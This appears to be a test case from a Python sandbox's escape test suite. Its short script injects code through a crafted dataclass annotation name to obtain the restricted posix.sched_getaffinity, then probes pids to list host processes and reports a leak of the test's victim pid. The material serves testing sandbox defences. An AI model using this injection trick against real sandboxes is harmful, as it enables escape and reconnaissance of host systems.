# category: processes
# attack: posix.sched_getaffinity(pid) over the host's pids enumerates its processes (seccomp: pid 0 only)
# profile: basic
# run-layer: guard
import abc, dataclasses
box = []
X = abc.ABCMeta("X", (), {"__module__": "posix", "a": box,
    "__annotations__": {"a,self.a.append(sched_getaffinity)": int}})
Y = dataclasses.dataclass(init=False, repr=False)(X)
Y() == Y()
found = []
for pid in range(1, 1 << 15):
    try:
        box[0](pid)
        found.append(pid)
    except OSError:
        pass
print(len(found), "host pids:", found[:20])
if @TESTPID@ in found:
    print("@LEAK@", "the test's victim pid")
